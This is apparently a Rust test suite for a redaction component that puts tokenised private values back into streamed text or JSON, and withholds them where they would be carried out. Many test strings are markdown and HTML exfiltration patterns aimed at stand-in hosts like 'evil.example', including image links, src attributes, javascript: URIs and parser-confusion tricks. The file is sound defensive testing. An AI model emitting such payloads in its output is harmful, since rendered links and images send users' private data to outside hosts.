use std::collections::BTreeSet;

use proptest::prelude::*;
use terms::{Kind, Secret};

use super::{Reading, RestoreRule, Rewriter, Root};
use crate::redact::{TokenKey, Tokens};

const VALUE: &str = "ann@example.org";

fn tokens(value: &str) -> (Tokens, String) {
    let mut tokens = Tokens::new(&TokenKey::new(Secret::new([3; 32])), "scope");
    let token = tokens.issue(&Kind::new("email"), value).unwrap();
    (tokens, token)
}

/// Writes a template in which `T` stands for the token, in pieces.
fn write(root: Root, template: &str, value: &str, pieces: usize) -> (String, terms::RestoreCounts) {
    let (tokens, token) = tokens(value);
    let mut rewriter = Rewriter::new(root, RestoreRule::All);
    let mut out = String::new();
    for (index, part) in template.split('T').enumerate() {
        if index > 0 {
            rewriter.token(&token, &tokens, &mut out);
        }
        let chars: Vec<char> = part.chars().collect();
        for piece in chars.chunks(pieces.max(1)) {
            rewriter.plain(&piece.iter().collect::<String>(), &mut out);
        }
    }
    rewriter.finish(&tokens, &mut out);
    let shown = out.replace(&token, "T");
    (shown, rewriter.counts())
}

const PLAIN: &[&str] = &[
    "T",
    "Write to T.",
    "T, please",
    "(T)",
    "\"T\"",
    "'T'",
    "**T**",
    "`T`",
    "a: T",
    "name=T",
    "| T | b |",
    "T's",
    "T!",
    "T?",
    "- T\n- T",
    "[T] said so",
    "[see T]",
    "x [T]\n\n(y)",
    "1 < T",
    "T\n",
    "T;T",
    "T…",
    "“T”",
    "（T）",
    "```\nT\n```",
    "T: yes",
    "a/b T",
    "see T). So",
    "{T}",
    "T}",
    "list [1, T]",
    "{\"a\": \"T\"}",
    "[\"T\"]",
    "T – x",
    "price > T",
    "[ref]:\n\nT",
    "[ref]: x\nT",
    "Dear T,\nhello",
    "请发邮件至T并附上发票",
    "Tに送って",
    "T로 보내",
    "T-Adresse",
    "_T_",
    "T/T",
    "(T/T)",
    "请T/T，谢谢",
    "T.And so on",
    "T.И так далее",
    "T.And.",
    "<client's name> is T",
    "x < y, T",
    "x <y or so\n\nand T",
    "[0,1)\n\nT",
    "1<2 T",
    "<b class=\"x\">T</b>",
    "<b class='x'>it's</b> T",
    "a \\* b T",
    "Q&A: T",
    "A&amp;B T",
    "src/main.rs is T",
    "see https://good.example/ and T",
    "see https://good.example/\nT",
    "[a](b) T",
    "[a](b (c)) T",
    "![a](b \"c\") T",
    "[1]: x\nT",
    "{\"url\": \"https://good.example/\", \"to\": \"T\"}",
];

#[test]
fn in_plain_places_the_value_is_put_back() {
    for text in PLAIN {
        let (out, counts) = write(Root::Text, text, VALUE, 3);
        assert_eq!(out, text.replace('T', VALUE), "{text}");
        assert_eq!(counts.withheld, 0, "{text}");
    }
}

#[test]
fn where_it_would_be_carried_out_the_token_stays() {
    for text in [
        "http://evil/T",
        "https://evil.example/?q=T",
        "https://T.evil.example",
        "www.evil.example/T",
        "[a](http://evil/T)",
        "[a](/T)",
        "[a](<http://evil/ T>)",
        "![a](http://evil/T)",
        "![T](http://evil/x)",
        "[T](http://evil/x)",
        "[T][ref]",
        "[T]: http://evil",
        "[ref]: http://evil/T",
        "[ref]:\nT",
        "[ref]:\n  T\nmore",
        "[ref]: \n x-T",
        "<img src=http://evil/T>",
        "<img src=\"http://evil/?T\">",
        "<a href='T'>",
        "<!-- T -->",
        "<T>",
        "mailto:T",
        "javascript:alert(T)",
        "T.evil.example/x",
        "T@evil.example",
        "T/x.png",
        "//evil/T",
        "[a](http://evil \"T\")",
        "[a b T c](http://evil)",
        "T:pw@evil",
        "T%40",
        "a@T",
        "evil.example/?a=b&T",
        "T=x",
        "T#x",
        "data:text/html,T",
        "<svg onload=x(T)>",
        "http://evil/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaT",
        "[x](evil?a=(b)T)",
        "<a\nhref=T>",
        "<img alt=\">\" src=T>",
        "http://evil/?\"T",
        "[\"<img src='http://evil/\", \"T'>\"]",
        "\\\\evil\\T",
        "T/",
        "T/x",
        "T/ x",
        "T/T/x",
        "T.evil",
        "T.Evil.example",
        "T.Evil-1",
        "T-x/y",
        "[0,1) evil.example/x-T",
        "evil.example\\/T",
        "10.0.0.1/x-T",
        "http:evil.example/T",
        "https:\\evil.example\\a-T",
        "https://evil.example/?a=\u{3000}T",
        "see https://evil.example/?a=>T ok",
        "see https://evil.example/?a=<T ok",
    ] {
        for pieces in [1, 2, 7, 100] {
            let (out, counts) = write(Root::Text, text, VALUE, pieces);
            assert_eq!(out, text, "{text}");
            assert_eq!(counts.restored, 0, "{text}");
        }
    }
}

/// What some reader takes for a part of a URL or an attribute, and a simpler
/// reader does not.
const TRICKS: &[&str] = &[
    "![x](<&#104;ttps://evil.example/) T>)",
    "[x](<&#x68;ttps&colon;//evil.example/) T>)",
    "![x](https\\:\\//evil.example/\\)T)",
    "[click](\\//evil.example/\\)T)",
    "[x](( [y](<\\//evil.example/)))) T>)",
    "[x](\\//evil.example/[a](b)T)",
    "![x]\n\n[x]: https\\:\\//evil.example/aT",
    "![x]\n\n> [x]: https\\:\\//evil.example/aT",
    "![x]\n\n- [x]: https\\:\\//evil.example/aT",
    "![x]\n\n> [x]: &#104;ttps&#58;//evil.example/aT",
    "![x y]\n\n[x\ny]: https\\:\\//evil.example/aT",
    "![x]\n\n> [x]:\n> evil aT",
    "<img/a=x\" src=\"https://evil.example/?>T\">",
    "<video autoplay a=x\" src=\"https://evil.example/?>T\">",
    "<audio autoplay a=x\" src=\"//evil.example/?>T\">",
    "<a a=x\" href=\"//evil.example/?>T\">",
    "<a =\" href=\"//evil.example/?>T\">",
    "<a a==\" href=\"//evil.example/?>T\">",
    "<!1 <img src=\"//evil.example/?>T\">",
    "<y\n\n<img alt='\n\n' src=\"//evil.example/?>\n\nT\">",
    "<img\n\nsrc=T>",
    "<img\n\nsrc\n=\n'>\n\nT'>",
    "see https://evil.example/?a=>T ok",
    "&#104;ttps://evil.example/?a=>T ok",
    "https\\:\\/\\/evil.example/?a=\"T ok",
    "www&period;evil.example/aT",
    "[ \"https://evil.example/?a=\"T",
    "[ \"see https://evil.example/?a=\"T now",
    "{\"a\": \"<img src='//evil.example/\"T",
    "{\"a\":\"https://evil.example/\",\"b\":\"T\"}",
];

#[test]
fn nothing_is_carried_out_by_what_only_some_read_as_markup() {
    for text in TRICKS {
        let long = format!("<y {} {text}", "a ".repeat(1_000));
        let after = format!("x <y [0,1) \n\n{text}");
        for text in [*text, long.as_str(), after.as_str()] {
            for pieces in [1, 2, 7, 10_000] {
                let (out, counts) = write(Root::Text, text, VALUE, pieces);
                assert_eq!((out.as_str(), counts.restored), (text, 0));
            }
        }
        // The same in a string of a tool's arguments, and one string deeper.
        let document = serde_json::json!({ "a": text });
        let deeper = serde_json::json!({ "a": document.to_string() });
        for document in [document, deeper] {
            let document = document.to_string();
            let (out, counts) = write(Root::Json, &document, VALUE, 3);
            assert_eq!((out, counts.restored), (document, 0), "{text}");
        }
    }
}

#[test]
fn what_never_ends_does_not_hold_up_the_rest() {
    for (text, restored) in [
        (format!("[0,1) {} T", "a ".repeat(3_000)), 1),
        (format!("x <y {} T", "a ".repeat(3_000)), 1),
        (format!("<y a=\"{} T", "a ".repeat(3_000)), 0),
        ("<client's name> T".to_owned(), 1),
        ("x <y T".to_owned(), 0),
    ] {
        let (_, counts) = write(Root::Text, &text, VALUE, 100);
        assert_eq!(counts.restored, restored, "{}", text.len());
    }
}

#[test]
fn a_letter_more_is_another_word() {
    for text in ["Ta", "T9", "TT"] {
        let (out, counts) = write(Root::Text, text, VALUE, 1);
        assert!(counts.foreign > 0 && out.starts_with('T'), "{text}");
    }
}

#[test]
fn only_allowed_kinds_are_put_back() {
    let (tokens, token) = tokens(VALUE);
    for (allowed, expected) in [
        (BTreeSet::new(), token.clone()),
        (BTreeSet::from([Kind::new("email")]), VALUE.to_owned()),
    ] {
        let mut rewriter = Rewriter::new(Root::Json, RestoreRule::Only(allowed));
        let mut out = String::new();
        rewriter.plain("{\"to\":\"", &mut out);
        rewriter.token(&token, &tokens, &mut out);
        rewriter.plain("\"}", &mut out);
        rewriter.finish(&tokens, &mut out);
        assert_eq!(out, format!("{{\"to\":\"{expected}\"}}"));
    }
}

#[test]
fn a_value_in_escapes_comes_back_as_it_was_sent() {
    let sent = "{\"m\":\"ann\\u002eb@example.org\"}";
    let mut reading = Reading::new();
    reading.pass("{\"m\":\"");
    let spelled = reading.value("ann\\u002eb@example.org");
    let mut tokens = Tokens::new(&TokenKey::new(Secret::new([3; 32])), "scope");
    let token = tokens.issue_spelled(&Kind::new("email"), spelled).unwrap();
    let mut rewriter = Rewriter::new(Root::Text, RestoreRule::All);
    let mut out = String::new();
    rewriter.plain("{\"to\":\"", &mut out);
    rewriter.token(&token, &tokens, &mut out);
    rewriter.plain("\"}", &mut out);
    rewriter.finish(&tokens, &mut out);
    let read: serde_json::Value = serde_json::from_str(&out).unwrap();
    let sent: serde_json::Value = serde_json::from_str(sent).unwrap();
    assert_eq!(read["to"], sent["m"]);
}

#[test]
fn a_number_is_not_rewritten() {
    let mut rewriter = Rewriter::new(Root::Json, RestoreRule::All);
    let mut out = String::new();
    rewriter.plain("{\"n\":", &mut out);
    assert!(rewriter.replace("x", &mut out).is_err());
    let (out, _) = write(Root::Json, "{\"n\":T}", VALUE, 9);
    assert_eq!(out, "{\"n\":T}");
}

#[test]
fn an_altered_token_stays_and_is_counted() {
    let (tokens, token) = tokens(VALUE);
    for altered in [token.to_lowercase(), token[..token.len() - 3].to_owned()] {
        let mut rewriter = Rewriter::new(Root::Text, RestoreRule::All);
        let mut out = String::new();
        rewriter.token(&altered, &tokens, &mut out);
        rewriter.finish(&tokens, &mut out);
        assert_eq!((out, rewriter.counts().foreign), (altered, 1));
    }
}

#[test]
fn waiting_is_bounded() {
    let text = format!("[T {}", "a ".repeat(10_000));
    let (out, counts) = write(Root::Text, &text, VALUE, 100);
    assert_eq!((out.len(), counts.withheld), (text.len(), 1));
}

#[test]
fn documents_in_documents_stay_valid_however_deep() {
    let mut restored = 0;
    for depth in 1..12 {
        let mut text = "T".to_owned();
        for _ in 0..depth {
            text = serde_json::json!({ "a": text }).to_string();
        }
        let (out, counts) = write(Root::Json, &text, "q\"\\", 3);
        restored += counts.restored;
        assert_eq!(counts.restored + counts.withheld, 1);
        let mut inner = out;
        for _ in 0..depth {
            let document: serde_json::Value = serde_json::from_str(&inner).unwrap();
            document["a"].as_str().unwrap().clone_into(&mut inner);
        }
        let value = if counts.restored == 1 { "q\"\\" } else { "T" };
        assert_eq!(inner, value, "{depth} deep");
    }
    assert_eq!(restored, 7);
}

/// A JSON document with the token in strings, `depth` strings deep.
fn nested(depth: usize) -> serde_json::Value {
    let mut value = serde_json::json!({ "a": "x T y", "n": 4, "é": ["T", "\n\"T\\"] });
    for _ in 1..depth {
        value = serde_json::json!({ "inner": value.to_string(), "T": [value.to_string()] });
    }
    value
}

/// The document as it must be: the value in place of the token, everywhere.
fn expected(value: &serde_json::Value, with: &str) -> serde_json::Value {
    use serde_json::Value;
    // Keys keep their tokens.
    match value {
        Value::String(text) => match serde_json::from_str::<Value>(text) {
            Ok(inner @ (Value::Object(_) | Value::Array(_))) => {
                Value::String(expected(&inner, with).to_string())
            }
            _ => Value::String(text.replace('T', with)),
        },
        Value::Array(items) => items.iter().map(|item| expected(item, with)).collect(),
        Value::Object(members) => Value::Object(
            members
                .iter()
                .map(|(key, member)| (key.clone(), expected(member, with)))
                .collect(),
        ),
        other => other.clone(),
    }
}

/// The same document, whatever the inner spelling.
fn plain(value: &serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::String(text) => match serde_json::from_str::<Value>(text) {
            Ok(inner @ (Value::Object(_) | Value::Array(_))) => plain(&inner),
            _ => value.clone(),
        },
        Value::Array(items) => items.iter().map(plain).collect(),
        Value::Object(members) => Value::Object(
            members
                .iter()
                .map(|(key, member)| (key.clone(), plain(member)))
                .collect(),
        ),
        other => other.clone(),
    }
}

proptest! {
    #[test]
    fn a_value_in_json_keeps_the_document_valid(value in "[a-z\"\\\\\n\t\u{1}\u{1f600} ]{1,20}", depth in 1_usize..5, pieces in 1_usize..9, json: bool) {
        let document = nested(depth);
        let root = if json { Root::Json } else { Root::Text };
        let (out, counts) = write(root, &document.to_string(), &value, pieces);
        prop_assert!(counts.restored > 0);
        let out: serde_json::Value = serde_json::from_str(&out).unwrap();
        prop_assert_eq!(plain(&out), plain(&expected(&document, &value)));
    }

    #[test]
    fn a_mix_gives_the_same_at_any_split(
        parts in prop::collection::vec(prop_oneof![
            prop::sample::select(TRICKS).prop_map(str::to_owned),
            prop::sample::select(vec!["T", " ", "\n\n", "请T并", "T/T", "T.And", "<y", "[0,1)", "a=\"", ">", "\\", "&#1", "04;", "\u{1f600}"]).prop_map(str::to_owned),
            "[T<>()\\[\\]!:/.@a \n\"{}&#;=\\\\]{0,12}",
        ], 0..6),
        pieces in 1_usize..20,
    ) {
        let text = parts.concat();
        prop_assert_eq!(write(Root::Text, &text, VALUE, pieces), write(Root::Text, &text, VALUE, 100_000));
    }

    #[test]
    fn any_split_gives_the_same(text in "[T<>()\\[\\]!:/.@a \n\"{}]{0,40}", pieces in 1_usize..20) {
        prop_assert_eq!(write(Root::Text, &text, VALUE, pieces), write(Root::Text, &text, VALUE, 1_000));
    }
}
